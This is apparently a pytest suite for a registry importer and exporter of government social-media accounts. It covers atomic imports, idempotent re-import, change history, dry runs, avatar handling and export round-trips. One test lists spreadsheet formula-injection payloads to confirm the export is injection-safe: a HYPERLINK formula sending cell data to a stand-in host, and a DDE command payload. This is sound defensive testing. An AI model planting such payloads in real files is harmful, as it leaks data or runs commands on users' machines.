"""Importing into the store: nothing on error, idempotent re-import, history of changes, --full, export."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime

import pytest

from core.records import REGISTRY_FIELDS
from registry.export import export_registry
from registry.importer import import_registry
from registry.read import read_registry
from tests.registry.helpers import EXPECTED, HEADERS_ZH, ROWS_ZH, write_csv, write_xlsx

T1 = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
T2 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)


def snapshot(store):
    return ({d["_id"]: d for d in store.scan("registry")},
            sorted(d["_id"] for d in store.scan("registry_history")))


def history(store, **filters):
    return list(store.scan("registry_history", filters, sort=[("changed_at", "asc"), ("field", "asc")]))


def test_good_import(store, tmp_path):
    result = import_registry(store, write_csv(tmp_path / "备案.csv", encoding="gbk"), now=T1)
    assert result.written and result.plan.summary() == {"new": 4, "changed": 0, "unchanged": 0, "missing": 0}
    assert store.count("registry") == 4
    doc = store.get("registry", "weibo:1234567890")
    assert doc["name"] == "济南公安" and doc["status"] == "active" and doc["filed_at"] == "2026-01-05"
    assert doc["source_file"] == "备案.csv" and doc["source_row"] == 2
    assert set(REGISTRY_FIELDS) <= set(doc)
    for (platform, account_id), (status, filed_at) in EXPECTED.items():
        got = store.get("registry", f"{platform}:{account_id}")
        assert (got["status"], got["filed_at"]) == (status, filed_at)
    # Every new entry has an "entry" and a "status" history record.
    assert store.count("registry_history") == 8
    first = history(store, platform="wechat", account_id="jngaj")
    assert [(h["field"], h["old"], h["new"], h["source"]) for h in first] == [
        ("entry", None, "present", "备案.csv"), ("status", None, "changed", "备案.csv")]
    assert first[0]["changed_at"] == "2026-03-01T08:00:00+00:00"


def test_search_finds_imported_names(store, tmp_path):
    import_registry(store, write_csv(tmp_path / "r.csv"))
    assert {d["account_id"] for d in store.search("registry", "教育")} == {"dy_jnedu"}


@pytest.mark.parametrize("mutate", [
    lambda rows: rows[1].__setitem__(1, "脸书"),
    lambda rows: rows[2].__setitem__(10, "2026-02-30"),
    lambda rows: rows.append(["某单位", "微博", "1234567890", "假冒", "", "", "", "", "", "", ""]),
    lambda rows: rows[3].__setitem__(3, ""),
])
def test_bad_file_imports_nothing(store, tmp_path, mutate):
    import_registry(store, write_csv(tmp_path / "v1.csv"), now=T1)
    before = snapshot(store)
    rows = [list(r) for r in ROWS_ZH]
    rows[0][6] = "注销"  # a valid change that must NOT be applied because another row is bad
    rows.append(["新单位", "快手", "ks_new", "新账号", "", "", "", "", "", "", ""])
    mutate(rows)
    result = import_registry(store, write_csv(tmp_path / "v2.csv", HEADERS_ZH, rows, encoding="gbk"), now=T2)
    assert not result.file.ok and not result.written
    assert snapshot(store) == before


def test_bad_xlsx_imports_nothing_into_empty_store(store, tmp_path):
    rows = [list(r) for r in ROWS_ZH]
    rows[2][6] = "暂停"
    result = import_registry(store, write_xlsx(tmp_path / "bad.xlsx", HEADERS_ZH, rows))
    assert [(p.kind, p.row, p.column) for p in result.file.errors] == [("unknown_status", 4, "状态")]
    assert store.count("registry") == 0 and store.count("registry_history") == 0


def test_reimport_is_idempotent(store, tmp_path):
    path = write_csv(tmp_path / "r.csv")
    import_registry(store, path, now=T1)
    before = snapshot(store)
    again = import_registry(store, path, now=T2)
    assert again.plan.summary() == {"new": 0, "changed": 0, "unchanged": 4, "missing": 0}
    assert again.history == 0
    assert snapshot(store) == before  # not even updated_at changes
    # The same entries from an XLSX with English codes are also "unchanged".
    xlsx = import_registry(store, write_xlsx(tmp_path / "r.xlsx"), now=T2)
    assert xlsx.plan.summary()["unchanged"] == 4 and snapshot(store) == before


def test_status_change_is_recorded(store, tmp_path):
    import_registry(store, write_csv(tmp_path / "v1.csv"), now=T1)
    rows = [list(r) for r in ROWS_ZH]
    rows[0][6] = "关停"
    rows[0][3] = "济南公安在线"
    result = import_registry(store, write_csv(tmp_path / "v2.csv", HEADERS_ZH, rows), now=T2)
    assert result.plan.summary() == {"new": 0, "changed": 1, "unchanged": 3, "missing": 0}
    doc = store.get("registry", "weibo:1234567890")
    assert doc["status"] == "closed" and doc["name"] == "济南公安在线"
    assert doc["imported_at"] == "2026-03-01T08:00:00+00:00" and doc["updated_at"] == "2026-03-02T08:00:00+00:00"
    changes = [(h["field"], h["old"], h["new"], h["source"], h["changed_at"])
               for h in history(store, platform="weibo", account_id="1234567890") if h["changed_at"] != doc["imported_at"]]
    assert sorted(changes) == [("name", "济南公安", "济南公安在线", "v2.csv", "2026-03-02T08:00:00+00:00"),
                               ("status", "active", "closed", "v2.csv", "2026-03-02T08:00:00+00:00")]
    assert store.count("registry_history") == 10


def test_absent_column_keeps_stored_values(store, tmp_path):
    import_registry(store, write_csv(tmp_path / "v1.csv"), now=T1)
    headers = ["开办单位", "平台", "账号ID", "账号名称"]
    result = import_registry(store, write_csv(tmp_path / "short.csv", headers, [r[:4] for r in ROWS_ZH]), now=T2)
    assert result.plan.summary()["unchanged"] == 4
    doc = store.get("registry", "douyin:dy_jnedu")
    assert doc["status"] == "closed" and doc["contact"] is None and doc["filed_at"] == "2026-01-05"
    assert store.get("registry", "weibo:1234567890")["contact"] == "张三 0531-12345678"


def test_missing_entries_reported_then_removed_with_full(store, tmp_path):
    import_registry(store, write_csv(tmp_path / "v1.csv"), now=T1)
    partial = write_csv(tmp_path / "v2.csv", HEADERS_ZH, ROWS_ZH[:3])
    plain = import_registry(store, partial, now=T2)
    assert [d["_id"] for d in plain.plan.missing] == ["website:www.shandong.gov.cn"] and plain.removed == 0
    assert store.count("registry") == 4
    dry = import_registry(store, partial, full=True, dry_run=True, now=T2)
    assert dry.removed == 1 and not dry.written and store.count("registry") == 4
    full = import_registry(store, partial, full=True, now=T2)
    assert full.removed == 1 and store.count("registry") == 3
    assert store.get("registry", "website:www.shandong.gov.cn") is None
    (removed,) = [h for h in history(store, platform="website") if h["old"] == "present"]
    assert (removed["field"], removed["new"], removed["source"]) == ("entry", None, "v2.csv")


def test_dry_run_writes_nothing(store, tmp_path):
    result = import_registry(store, write_csv(tmp_path / "r.csv"), dry_run=True)
    assert result.plan.summary()["new"] == 4 and not result.written
    assert store.count("registry") == 0 and store.count("registry_history") == 0


def test_import_runs_are_recorded(store, tmp_path):
    import_registry(store, write_csv(tmp_path / "r.csv"), now=T1)
    (run,) = list(store.scan("runs", {"kind": "registry_import"}))
    assert run["summary"]["new"] == 4 and run["source"] == "r.csv"


# ---- export ----------------------------------------------------------------------------------------------------


def test_export_round_trip(store, tmp_path, cfg):
    from search_index.sqlite_backend import SQLiteStore
    from tests.alerts.fixtures import png_bytes

    (tmp_path / "a.png").write_bytes(png_bytes())
    rows = [list(r) for r in ROWS_ZH]
    rows[0][5] = "a.png"
    rows[1][9] = "李四\n王五"
    assert import_registry(store, write_csv(tmp_path / "r.csv", HEADERS_ZH, rows, encoding="utf-8-sig"),
                           data_dir=cfg.data_dir).written
    assert store.get("registry", "weibo:1234567890")["avatar"].startswith("avatars/")  # the store's copy
    out = tmp_path / "out" / "备案导出.xlsx"
    assert export_registry(store.scan("registry"), out) == 4
    parsed = read_registry(out)
    assert parsed.ok and parsed.warnings == []
    other = SQLiteStore(tmp_path / "other.db")
    try:
        assert import_registry(other, out, data_dir=cfg.data_dir).written  # the export names the avatar store
        fields = lambda s: {d["_id"]: {f: d.get(f) for f in REGISTRY_FIELDS} for d in s.scan("registry")}  # noqa
        assert fields(other) == fields(store)
    finally:
        other.close()
    # And re-importing the export into the original store changes nothing.
    assert import_registry(store, out, data_dir=cfg.data_dir).plan.summary()["unchanged"] == 4
    # Elsewhere, without that image in the avatar store, the reference is an error (row and column).
    missing = import_registry(other_store := SQLiteStore(tmp_path / "third.db"), out, data_dir=tmp_path / "empty")
    other_store.close()
    assert [(p.kind, p.row, p.column) for p in missing.file.errors] == [("avatar_missing", 2, "头像")]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "=1+1", "\t=1"]


def test_export_is_formula_injection_safe(store, tmp_path):
    from openpyxl import load_workbook

    rows = [["济南市公安局", "微博", f"h{i}", text, "", "", "", text, text, text, ""] for i, text in enumerate(HOSTILE)]
    result = import_registry(store, write_csv(tmp_path / "hostile.csv", HEADERS_ZH, rows))
    assert result.file.ok, [str(p) for p in result.file.errors]
    out = tmp_path / "export.xlsx"
    export_registry(store.scan("registry", sort=[("account_id", "asc")]), out)
    with zipfile.ZipFile(out) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    wb = load_workbook(out)  # not data_only: formulas would show up as data_type "f"
    ws = wb.active
    names = {}
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
        assert row[3].data_type == "s" and row[3].quotePrefix  # shown literally by Excel
        names[row[2].value] = row[3].value
    assert names == {f"h{i}": text.strip() for i, text in enumerate(HOSTILE)}
    # Re-import reads the same text back.
    back = {e["account_id"]: e["name"] for e in read_registry(out).entries}
    assert back == names
    assert re.search(r'<c r="D2"[^>]*t="(inlineStr|s)"', sheet)


def test_local_avatars_are_copied_into_the_data_dir_and_hashed(tmp_path, cfg):
    import io

    from PIL import Image

    from registry.importer import import_registry
    from search_index.sqlite_backend import SQLiteStore

    img = tmp_path / "img"
    img.mkdir()
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 20, 20)).save(buf, "PNG")
    (img / "jn.png").write_bytes(buf.getvalue())
    (img / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\nnot really")
    csv_path = tmp_path / "reg.csv"
    csv_path.write_text("开办单位,平台,账号ID,账号名称,头像\n济南市政府,微博,1,济南发布,img/jn.png\n"
                        "济南市公安局,微博,2,济南公安,img/broken.png\n", encoding="utf-8")
    data_dir = tmp_path / "data"
    with SQLiteStore(tmp_path / "s.db") as store:
        # an image that cannot be decoded rejects the whole file: nothing is written, not even the good avatar
        result = import_registry(store, csv_path, data_dir=data_dir)
        assert not result.written and store.count("registry") == 0 and not (data_dir / "avatars").exists()
        assert [(p.kind, p.row, p.column) for p in result.file.errors] == [("avatar_rejected", 3, "头像")]
        csv_path.write_text("开办单位,平台,账号ID,账号名称,头像\n济南市政府,微博,1,济南发布,img/jn.png\n"
                            "济南市公安局,微博,2,济南公安,\n", encoding="utf-8")
        result = import_registry(store, csv_path, data_dir=data_dir)
        assert result.written
        good, other = store.get("registry", "weibo:1"), store.get("registry", "weibo:2")
        assert good["avatar_path"].startswith("avatars/") and (data_dir / good["avatar_path"]).is_file()
        assert len(good["avatar_hashes"]["phash"]) == 16 and "avatar_path" not in other
        again = import_registry(store, csv_path, data_dir=data_dir)
        assert again.plan.summary()["changed"] == 0 and again.plan.summary()["unchanged"] == 2


def test_control_characters_are_dropped_on_import_and_export(tmp_path):
    from openpyxl import load_workbook

    from registry.export import export_registry
    from registry.read import read_registry

    path = tmp_path / "reg.csv"
    path.write_text("开办单位,平台,账号ID,账号名称\n济南市政府\x07,微博,1,济南\x1b发布\n", encoding="utf-8")
    parsed = read_registry(path)
    assert parsed.ok and parsed.entries[0]["unit"] == "济南市政府" and parsed.entries[0]["name"] == "济南发布"
    out = tmp_path / "out.xlsx"
    export_registry([{"unit": "单位\x07", "platform": "weibo", "account_id": "2", "name": "=名称\x00",
                      "status": "active"}], out)
    values = [c.value for c in next(load_workbook(out).active.iter_rows(min_row=2))]
    assert "单位" in values and "=名称" in values


def test_avatar_limits_come_from_the_configuration(tmp_path):
    """The demo and the CLI pass the configured avatar limits (``crawler.avatar_max_*``); a registry avatar over
    the configured size is refused with its row and column, and nothing is imported."""
    import io

    from PIL import Image

    from core.settings import load_config
    from registry.importer import avatar_limits, import_registry
    from search_index.sqlite_backend import SQLiteStore

    buf = io.BytesIO()
    Image.effect_noise((64, 64), 80).convert("RGB").save(buf, "PNG")
    assert 1024 < len(buf.getvalue()) < 5 * 1024 * 1024  # fits the default, not the configured limit below
    (tmp_path / "jn.png").write_bytes(buf.getvalue())
    csv_path = tmp_path / "reg.csv"
    csv_path.write_text("开办单位,平台,账号ID,账号名称,头像\n济南市政府,微博,1,济南发布,jn.png\n", encoding="utf-8")
    small = load_config(env={"GOVWATCH_CRAWLER__AVATAR_MAX_BYTES": "1024"})
    assert avatar_limits(small) == {"avatar_max_bytes": 1024,
                                    "avatar_max_pixels": small["crawler.avatar_max_pixels"]}
    with SQLiteStore(tmp_path / "s.db") as store:
        refused = import_registry(store, csv_path, data_dir=tmp_path / "data", **avatar_limits(small))
        assert [(p.kind, p.row, p.column) for p in refused.file.errors] == [("avatar_rejected", 2, "头像")]
        assert not refused.written and store.count("registry") == 0
        assert import_registry(store, csv_path, data_dir=tmp_path / "data").written  # the default allows it
